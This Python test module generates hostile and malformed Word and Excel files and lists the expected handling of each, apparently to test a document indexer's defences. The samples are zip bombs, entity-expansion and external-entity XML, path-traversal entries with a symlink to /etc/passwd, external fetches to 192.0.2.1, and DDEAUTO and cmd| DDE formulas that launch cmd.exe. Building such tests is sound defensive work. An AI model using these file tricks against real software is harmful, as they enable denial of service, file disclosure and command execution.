"""Word files and workbooks that are hostile or broken."""

import io
import struct
import zipfile
from pathlib import Path

from nasty_case import (
    FETCH,
    LAUGHS,
    RELATIONS,
    SHEET,
    TEXT,
    WORD,
    Case,
    cell,
    content,
    docx,
    flipped,
    made,
    paragraph,
    xlsx,
    zipped,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
BOMB = "unpacks to far more than its size"
ENTITIES = "defines XML entities"
AGAIN = "save it again|get it again|save it as PDF"
ROW = (
    f'<row r="1">{cell("A1", "Date")}{cell("B1", "Event")}</row><row r="2">{cell("A2", "2026-01-02")}{cell("B2")}</row>'
)


def lying(sound: bytes, part: bytes, size: int) -> bytes:
    """An archive whose list of contents says another unpacked size of a part."""
    place = sound.rindex(part) - 46  # the part's record in the list of contents
    assert sound[place : place + 4] == b"PK\x01\x02"
    return sound[: place + 24] + struct.pack("<I", size) + sound[place + 28 :]


def overlapping(count: int = 2000) -> bytes:
    """An archive that names the same packed bytes many times over."""
    one = zipped({"word/document.xml": bytes(10_000_000)})
    start = one.index(b"PK\x01\x02")
    record = one[start : one.index(b"PK\x05\x06")]
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(record) * count, start, 0)
    return one[:start] + record * count + end


def in_itself(depth: int = 30) -> bytes:
    """A Word file in a Word file in a Word file …"""
    inner = docx(paragraph())
    for _ in range(depth):
        inner = docx(paragraph(), embeddings__inner_0docx=inner)
    return inner


def laughing(encoding: str) -> bytes:
    """A Word file whose body is an entity that grows, in an encoding of its own."""
    body = f'<w:document xmlns:w="{WORD}"><w:body>{paragraph("&a9;")}</w:body></w:document>'
    return zipped({"word/document.xml": f'<?xml version="1.0" encoding="{encoding}"?>{LAUGHS}{body}'.encode(encoding)})


def climbing(path: Path) -> None:
    """A Word file with parts that want to be laid down elsewhere, one of them as a link."""
    with zipfile.ZipFile(io.BytesIO(docx(paragraph()))) as sound, zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", sound.read("word/document.xml"))
        for name in ("../canary.txt", "../../../../../../tmp/canary.txt", "/etc/canary.txt", "C:\\canary.txt"):
            archive.writestr(name, TEXT)
        link = zipfile.ZipInfo("word/header1.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    """The relations of a Word file that has one."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="r1" Type="{office}/{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="{RELATIONS}">{one}</Relationships>'


def away(kind: str, target: str, body: str = "", mode: str = ' TargetMode="External"') -> bytes:
    """A Word file that refers to something outside it."""
    return docx(paragraph() + body, _rels__document_0xml_0rels=related(kind, target, mode))


def styled(styles: str, numbering: str = "") -> bytes:
    """A Word file with these styles and lists."""
    body = f'<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>{TEXT}</w:t></w:r></w:p>'
    parts = {"styles_0xml": f'<w:styles xmlns:w="{WORD}">{styles}</w:styles>'}
    if numbering:
        parts["numbering_0xml"] = f'<w:numbering xmlns:w="{WORD}">{numbering}</w:numbering>'
    return docx(body, **parts)


def nested(count: int) -> bytes:
    """Tables within one another."""
    head, tail = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx(paragraph() + head * count + paragraph("Innermost.") + tail * count + paragraph("Last words."))


def shared(strings: str) -> bytes:
    """A workbook with these shared strings, the first two of which it shows."""
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    return xlsx(rows, f'<sst xmlns="{SHEET}">{strings}</sst>')


def far() -> str:
    """Two rows at the top of a sheet, and one in its last row and column."""
    return f'{ROW}<row r="1048576">{cell("A1048576", "The last row speaks of padlocks.")}</row>'


CASES = (
    Case("docx/bomb.docx", made(lambda: docx(" " * 60_000_000)), "refused", BOMB),
    Case("docx/bomb_large.docx", made(lambda: docx(" " * 900_000_000)), "refused", BOMB, large=True),
    Case(
        "docx/bomb_lies.docx", made(lambda: lying(docx(" " * 60_000_000), b"word/document.xml", 500)), "refused", AGAIN
    ),
    Case("docx/bomb_overlaps.docx", made(overlapping), "refused", f"{BOMB}|{AGAIN}"),
    Case("docx/bomb_parts.docx", made(lambda: zipped({f"word/{at}": b"" for at in range(30_000)})), "refused", BOMB),
    Case("docx/in_itself.docx", made(in_itself), "indexed partly"),
    Case("docx/climbs.docx", climbing, "indexed partly"),
    Case("docx/laughs.docx", made(lambda: docx(paragraph("&a9;"), LAUGHS)), "refused", ENTITIES),
    Case("docx/laughs_utf16.docx", made(lambda: laughing("utf-16")), "refused", ENTITIES),
    Case("docx/laughs_ebcdic.docx", made(lambda: laughing("cp037")), "refused", AGAIN),
    Case("docx/fetches_entity.docx", made(lambda: docx(paragraph("&a9;"), FETCH)), "refused", ENTITIES),
    Case("docx/fetches_template.docx", made(lambda: away("attachedTemplate", "http://192.0.2.1/x.dotm")), "indexed"),
    Case("docx/fetches_picture.docx", made(lambda: away("image", "http://192.0.2.1/x.png")), "indexed"),
    Case("docx/fetches_share.docx", made(lambda: away("frame", "file://192.0.2.1/share/x")), "indexed"),
    Case(
        "docx/chunk_climbs.docx",
        made(
            lambda: away(
                "aFChunk",
                "../../../../etc/hosts.html",
                '<w:altChunk r:id="r1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>',
                "",
            )
        ),
        "partly",
    ),
    Case(
        "docx/field_runs.docx",
        made(
            lambda: docx(
                f'{paragraph()}<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k canary"</w:instrText></w:r></w:p>'
            )
        ),
        "indexed",
    ),
    Case(
        "docx/macros.docm", made(lambda: docx(paragraph(), vbaProject_0bin=OLE + b"Sub AutoOpen()")), "indexed partly"
    ),
    Case("docx/object.docx", made(lambda: docx(paragraph(), embeddings__oleObject1_0bin=OLE)), "indexed partly"),
    Case("docx/tables_30.docx", made(lambda: nested(30)), "indexed"),
    Case("docx/tables_100000.docx", made(lambda: nested(100_000)), "refused partly", f"deep|damaged|{AGAIN}"),
    Case(
        "docx/styles_loop.docx",
        made(
            lambda: styled(
                '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
                '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>'
            )
        ),
        "indexed",
    ),
    Case(
        "docx/lists_loop.docx",
        made(
            lambda: styled(
                '<w:style w:styleId="a"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>',
                '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/><w:styleLink w:val="a"/></w:abstractNum>'
                '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
            )
        ),
        "indexed",
    ),
    Case(
        "docx/list_numbers.docx",
        made(
            lambda: styled(
                '<w:style w:styleId="a"><w:pPr><w:numPr><w:ilvl w:val="99999999999"/>'
                '<w:numId w:val="1"/></w:numPr></w:pPr></w:style>',
                '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="99999999999999"/>'
                '<w:numFmt w:val="upperRoman"/>'
                '<w:lvlText w:val="%1%2%9"/></w:lvl></w:abstractNum>'
                '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
            )
        ),
        "indexed",
    ),
    Case("docx/word_long.docx", made(lambda: docx(paragraph("x" * 300_000))), "indexed partly refused"),
    Case(
        "docx/paragraphs.docx",
        made(lambda: docx("".join(paragraph(f"{TEXT} {at * 7919 % 1_000_003}") for at in range(200_000)))),
        "indexed refused",
        large=True,
    ),
    Case("docx/cut_short.docx", made(lambda: docx(paragraph())[:-40]), "refused", AGAIN),
    Case(
        "docx/xml_cut_short.docx",
        made(
            lambda: zipped(
                {"word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{paragraph()}<w:p><w:r><w:t>The rest of'}
            )
        ),
        "refused partly",
        "damaged",
    ),
    Case("docx/fuzzed_1.docx", made(lambda: flipped(docx(paragraph() * 50), 1)), "refused partly", AGAIN),
    Case("docx/fuzzed_2.docx", made(lambda: flipped(docx(paragraph() * 50), 22)), "refused partly", AGAIN),
    Case("docx/locked.docx", content(OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99)), "refused", "password"),
    Case("docx/empty_inside.docx", made(lambda: docx("")), "refused", "no text in it"),
    Case("xlsx/bomb.xlsx", made(lambda: xlsx(" " * 60_000_000)), "refused", BOMB),
    Case("xlsx/rows_16_million.xlsx", made(lambda: xlsx(ROW, dimension="A1:XFD16000000")), "indexed"),
    Case("xlsx/rows_far_apart.xlsx", made(lambda: xlsx(far(), dimension="A1:XFD1048576")), "indexed partly"),
    Case(
        "xlsx/row_beyond.xlsx",
        made(lambda: xlsx(f'{ROW}<row r="900000000">{cell("A900000000")}</row>')),
        "indexed refused partly",
    ),
    Case("xlsx/column_beyond.xlsx", made(lambda: xlsx(ROW.replace("B2", "XFD2"))), "refused indexed partly"),
    Case(
        "xlsx/merged_all.xlsx",
        made(lambda: xlsx(ROW, after='<mergeCells><mergeCell ref="A3:XFD1048576"/></mergeCells>')),
        "indexed",
    ),
    Case(
        "xlsx/rows_200001.xlsx",
        made(lambda: xlsx("<row><c><v>7</v></c></row>" * 200_001)),
        "refused",
        "200,000 rows.*split",
        large=True,
    ),
    Case(
        "xlsx/strings_many.xlsx",
        made(lambda: shared("<si><t>Seal</t></si>" * 1_000_000)),
        "indexed refused",
        large=True,
    ),
    Case(
        "xlsx/string_long.xlsx",
        made(lambda: shared(f"<si><t>{'seal ' * 1_000_000}</t></si><si><t>b</t></si>")),
        "refused",
        "32,767 characters",
    ),
    Case(
        "xlsx/strings_laugh.xlsx",
        made(lambda: xlsx(ROW, f'{LAUGHS}<sst xmlns="{SHEET}"><si><t>&a9;</t></si></sst>')),
        "refused",
        ENTITIES,
    ),
    Case("xlsx/sheet_laughs.xlsx", made(lambda: xlsx(ROW.replace(TEXT, "&a9;"), head=LAUGHS)), "refused", AGAIN),
    Case("xlsx/sheet_fetches.xlsx", made(lambda: xlsx(ROW.replace(TEXT, "&a9;"), head=FETCH)), "refused", AGAIN),
    Case(
        "xlsx/formulas.xlsx",
        made(
            lambda: xlsx(
                "<row r='1'><c r='A1'><f>WEBSERVICE(\"http://192.0.2.1/\")</f></c>"
                "<c r='B1'><f>cmd|'/c canary'!A0</f></c></row>"
            )
        ),
        "refused",
        "no values",
    ),
    Case("xlsx/cut_short.xlsx", made(lambda: xlsx(ROW)[:-100]), "refused", AGAIN),
    Case("xlsx/fuzzed_1.xlsx", made(lambda: flipped(xlsx(ROW * 30), 3)), "refused", AGAIN),
    Case("xlsx/fuzzed_2.xlsx", made(lambda: flipped(xlsx(ROW * 30), 44)), "refused", AGAIN),
    Case("lies/tool.docx", content(b"MZ\x90\x00" + bytes(range(256)) * 40), "refused", "save it"),
    Case("lies/docx.xlsx", made(lambda: docx(paragraph())), "partly", "not what its name says"),
    Case("lies/archive.xlsx", made(lambda: zipped({"a.txt": TEXT})), "refused", "is an archive: unpack"),
)
